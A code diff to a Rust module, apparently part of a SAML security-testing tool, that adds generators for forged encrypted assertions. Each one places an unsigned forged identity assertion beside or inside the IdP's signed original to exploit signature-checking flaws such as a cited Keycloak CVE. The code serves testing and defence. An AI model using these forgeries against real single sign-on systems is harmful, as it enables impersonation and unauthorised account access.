@@ -1,11 +1,14 @@
 //! Encrypted assertions. Anyone can encrypt to the SP's published certificate, so encryption
 //! proves nothing about who wrote the plaintext: an unsigned forgery inside EncryptedAssertion,
 //! a stale or misdirected token hidden by encryption, RSA PKCS#1 v1.5 key transport, a DOCTYPE
-//! in the plaintext, and a signed assertion hidden beside a forged plaintext one.
+//! in the plaintext, a signed assertion hidden beside a forged plaintext one, and a forged
+//! encrypted one beside the signed original.
 
 use saml_protocol::xmlenc::{self, KeyTransport};
 
-use crate::bytes::{declares_own_namespace, splice, Doc};
+use saml_protocol::PROTOCOL_NS;
+
+use crate::bytes::{declares_own_namespace, insert, splice, Doc};
 use crate::family::{evil_id, forge_document, strip_signatures, token, Parts};
 use crate::forge::{Forge, Forged, Skip};
 
@@ -28,12 +31,16 @@ fn encrypted(
         ));
     }
     let sealed = xmlenc::encrypted_assertion(&plaintext(doc.outer(assertion)), cert, transport)
-        .map_err(|e| Skip::Failed(format!("cannot encrypt to the SP certificate: {e}")))?;
+        .map_err(cannot_encrypt)?;
     let mut edits = vec![(assertion.range(), sealed)];
     if let Some(response_signature) = crate::bytes::signature_of(doc.root()) {
         edits.push((response_signature.range(), String::new()));
     }
     Ok(splice(doc.src, edits))
+}
+
+fn cannot_encrypt(e: impl std::fmt::Display) -> Skip {
+    Skip::Failed(format!("cannot encrypt to the SP certificate: {e}"))
 }
 
 /// The IdP's own response, its Assertion encrypted to the SP (RSA-OAEP, AES-256-CBC): the
@@ -103,7 +110,57 @@ pub fn wrapped(f: &Forge) -> Result<Forged, Skip> {
         f.sp_certificate()?,
         KeyTransport::RsaOaep,
     )
-    .map_err(|e| Skip::Failed(format!("cannot encrypt to the SP certificate: {e}")))?;
+    .map_err(cannot_encrypt)?;
     let edits = vec![(p.assertion.range(), format!("{evil}{sealed}"))];
     crate::family::forged(p.splice_unsigned_response(edits), swap)
+}
+
+/// A forged unsigned Assertion (new ID) encrypted to the SP in place of the IdP's, whose
+/// signed Assertion follows it in plaintext: the signature that verifies is not on the
+/// assertion read (Keycloak CVE-2026-2092: a decrypted assertion counted as signed when any
+/// signature in the document verified).
+pub fn unsigned_beside_signed(f: &Forge) -> Result<Forged, Skip> {
+    sealed_forgery(f, &|p, sealed| {
+        vec![(
+            p.assertion.range(),
+            format!("{sealed}{}", p.doc.outer(p.assertion)),
+        )]
+    })
+}
+
+/// As [`unsigned_beside_signed`], the IdP's signed Assertion moved into `samlp:Extensions`
+/// after the Response's Issuer, so the encrypted one is the only Assertion child.
+pub fn unsigned_with_signed_in_extensions(f: &Forge) -> Result<Forged, Skip> {
+    sealed_forgery(f, &|p, sealed| {
+        vec![
+            insert(
+                p.after_response_header(),
+                format!(
+                    "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:Extensions>",
+                    p.doc.outer(p.assertion)
+                ),
+            ),
+            (p.assertion.range(), sealed),
+        ]
+    })
+}
+
+/// The seed's signed Assertion forged (target identity, new ID, unsigned) and encrypted to
+/// the SP; `place` puts that EncryptedAssertion and the signed original in the Response.
+fn sealed_forgery(
+    f: &Forge,
+    place: &dyn Fn(&Parts, String) -> crate::bytes::Edits,
+) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    if !declares_own_namespace(doc.src, p.assertion) {
+        return Err(Skip::NotApplicable(
+            "the Assertion's namespace is declared on the Response; encrypted alone it would be unbound".into(),
+        ));
+    }
+    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
+    let sealed = xmlenc::encrypted_assertion(&evil, f.sp_certificate()?, KeyTransport::RsaOaep)
+        .map_err(cannot_encrypt)?;
+    crate::family::forged(p.splice_unsigned_response(place(&p, sealed)), swap)
 }
